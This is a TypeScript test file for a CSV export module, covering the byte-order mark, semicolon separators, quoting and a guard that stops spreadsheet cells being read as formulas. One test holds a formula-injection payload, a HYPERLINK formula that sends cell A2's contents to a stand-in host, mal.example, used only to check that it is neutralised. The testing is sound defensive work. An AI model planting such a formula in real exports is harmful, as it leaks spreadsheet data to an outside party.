import { describe, expect, test } from 'vitest';
import { spreadsheetText, toCsv, toImportLines } from './csv.ts';

const columns = [
  { header: 'Nome', value: (row: { name: string; note: string }) => row.name },
  { header: 'Nota', value: (row: { name: string; note: string }) => row.note },
];

describe('toCsv', () => {
  test('starts with the BOM, separates with ; and ends rows with CRLF', () => {
    expect(toCsv(columns, [{ name: 'Ana', note: 'ok' }])).toBe('\uFEFFNome;Nota\r\nAna;ok\r\n');
  });

  test('quotes fields holding the separator, quotes or line breaks', () => {
    const csv = toCsv(columns, [{ name: 'Silva; Ana', note: 'linha 1\nlinha "2"' }]);
    expect(csv).toBe('\uFEFFNome;Nota\r\n"Silva; Ana";"linha 1\nlinha ""2"""\r\n');
  });

  test('an empty list still has the header', () => {
    expect(toCsv(columns, [])).toBe('\uFEFFNome;Nota\r\n');
  });

  test('a field a spreadsheet would run as a formula is written as text', () => {
    const csv = toCsv(columns, [{ name: '=HYPERLINK("https://mal.example/?"&A2;"Abrir")', note: '@SUM(A1)' }]);
    expect(csv).toBe('\uFEFFNome;Nota\r\n"\'=HYPERLINK(""https://mal.example/?""&A2;""Abrir"")";\'@SUM(A1)\r\n');
  });
});

describe('spreadsheetText', () => {
  test('guards every start a spreadsheet reads as a formula', () => {
    for (const cell of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '-', '+55 11 98765-4321']) {
      expect(spreadsheetText(cell)).toBe(`'${cell}`);
    }
  });

  test('keeps numbers as the exports write them, and ordinary text, as they are', () => {
    for (const cell of ['-12,5', '150,00', '1.234,00', '-3%', '+2,5%', '0', 'Ana Clínica', '18/11/2026', '']) {
      expect(spreadsheetText(cell)).toBe(cell);
    }
  });
});

describe('toImportLines', () => {
  test('has no BOM and no header: only the lines, ; between fields and CRLF after each', () => {
    expect(toImportLines([['01/02/2026', '150,00', ''], ['02/02/2026', '90,00', 'S']])).toBe(
      '01/02/2026;150,00;\r\n02/02/2026;90,00;S\r\n',
    );
  });

  test('nothing to import is an empty file', () => {
    expect(toImportLines([])).toBe('');
  });
});
